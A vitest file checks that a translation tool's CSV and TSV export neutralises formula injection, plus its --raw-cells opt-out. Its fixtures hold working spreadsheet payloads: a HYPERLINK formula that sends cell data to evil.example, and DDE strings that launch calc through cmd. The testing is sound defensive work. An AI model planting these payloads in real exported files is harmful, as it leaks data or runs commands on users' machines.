/** CSV and TSV cells that a spreadsheet would run as formulas (OWASP CSV injection). */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, describe, expect, it } from 'vitest'
import { runCli } from '../../../src/cli/main'
import { fromBilingual, type BilingualDocument } from '../../../src/core/formats/bilingual'
import { FORMAT_CATALOG } from '../../../src/core/formats/catalog'
import { neutralizeFormula, writeCsv, writeTsv } from '../../../src/core/formats/delimited'
import { parseInput } from '../../../src/shared/contract'
import { NOW } from '../../fixtures/formats/sample'

/** A small RFC 4180 reader (quotes doubled inside quoted fields), enough to read back what the writer wrote. */
function parseDelimited(text: string, separator: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let field = ''
  let quoted = false
  for (let k = 0; k < text.length; k++) {
    const char = text[k]
    if (quoted) {
      if (char === '"' && text[k + 1] === '"') ((field += '"'), k++)
      else if (char === '"') quoted = false
      else field += char
    } else if (char === '"' && field === '') quoted = true
    else if (char === separator) (row.push(field), (field = ''))
    else if (char === '\r' && text[k + 1] === '\n') (row.push(field), rows.push(row), (row = []), (field = ''), k++)
    else field += char
  }
  if (field || row.length) rows.push([...row, field])
  return rows
}

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '+98 21 8888 1234',
  '-3.5',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1'
]

function hostileDocument(): BilingualDocument {
  return {
    id: 'doc-1',
    title: 'سند',
    sourceLang: 'fa',
    targetLang: 'en',
    createdAt: NOW,
    units: HOSTILE.map((text, k) => ({
      id: `r${k + 1}`,
      source: [`جمله ${k + 1}`],
      target: [text],
      status: 'draft' as const,
      tags: [{ name: '=cmd', side: 'unit' as const }],
      comments: [{ author: '@evil', createdAt: NOW, text: 'note', resolved: false }]
    }))
  }
}

describe('CSV and TSV export against formula injection', () => {
  it('prefixes a quote to every cell that starts with = + - @ tab or carriage return, numbers included', () => {
    for (const value of HOSTILE) expect(neutralizeFormula(value)).toBe(`'${value}`)
    for (const value of ['Iran', '3.5', ' =spaced', '', "'quoted", 'a=b', 'جمله']) expect(neutralizeFormula(value)).toBe(value)
  })

  it('writes no cell a spreadsheet would run, in any column, and reads back with the quote', () => {
    for (const [writer, separator] of [
      [writeCsv, ','],
      [writeTsv, '\t']
    ] as const) {
      const rows = parseDelimited(writer(hostileDocument()).slice(1), separator)
      expect(rows).toHaveLength(HOSTILE.length + 1)
      for (const row of rows) {
        expect(row).toHaveLength(6)
        for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
      }
      expect(rows.slice(1).map((row) => row[2])).toEqual(HOSTILE.map((text) => `'${text}`))
      expect(rows[1][4]).toBe("'=cmd")
      expect(rows[1][5]).toBe("'@evil: note")
    }
  })

  it('writes cells as they are with rawCells', () => {
    for (const [writer, separator] of [
      [writeCsv, ','],
      [writeTsv, '\t']
    ] as const) {
      const rows = parseDelimited(writer(hostileDocument(), { rawCells: true }).slice(1), separator)
      expect(rows.slice(1).map((row) => row[2])).toEqual(HOSTILE)
      expect(rows[1][4]).toBe('=cmd')
    }
  })

  it('offers the option for CSV and TSV only, and the API accepts it', () => {
    expect(FORMAT_CATALOG.csv.options).toContain('rawCells')
    expect(FORMAT_CATALOG.tsv.options).toContain('rawCells')
    for (const format of ['tmx', 'xliff12', 'xliff2', 'docx', 'html', 'md', 'json', 'txt'] as const) {
      expect(FORMAT_CATALOG[format].options).not.toContain('rawCells')
    }
    expect(parseInput('exportDocument', { documentId: 'd1', format: 'csv', options: { rawCells: true } }).options).toEqual({ rawCells: true })
  })
})

describe('hamta export --raw-cells', () => {
  const folder = mkdtempSync(join(tmpdir(), 'hamta-csv-'))
  afterAll(() => rmSync(folder, { recursive: true, force: true }))
  const doc = join(folder, 'hostile.hamta.json')
  writeFileSync(
    doc,
    JSON.stringify({ format: 'hamta-document', document: fromBilingual(hostileDocument(), { id: 'doc-1', now: NOW, fileName: 'a.txt' }) })
  )

  async function cli(...args: string[]) {
    let stderr = ''
    const code = await runCli(args, { stdout: () => {}, stderr: (text) => (stderr += text), env: {} })
    return { code, stderr }
  }

  it('neutralises formulas by default and keeps them with --raw-cells', async () => {
    expect((await cli('export', doc, '--format', 'csv', '--out', join(folder, 'safe.csv'))).code).toBe(0)
    expect(readFileSync(join(folder, 'safe.csv'), 'utf8')).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`)
    expect((await cli('export', doc, '--format', 'tsv', '--out', join(folder, 'raw.tsv'), '--raw-cells')).code).toBe(0)
    const raw = parseDelimited(readFileSync(join(folder, 'raw.tsv'), 'utf8').slice(1), '\t')
    expect(raw[1][2]).toBe(HOSTILE[0])
  })

  it('refuses --raw-cells for formats other than CSV and TSV', async () => {
    const run = await cli('export', doc, '--format', 'docx', '--out', join(folder, 'x.docx'), '--raw-cells')
    expect(run.code).toBe(1)
    expect(run.stderr).toMatch(/--raw-cells applies to --format csv and tsv only/)
  })
})
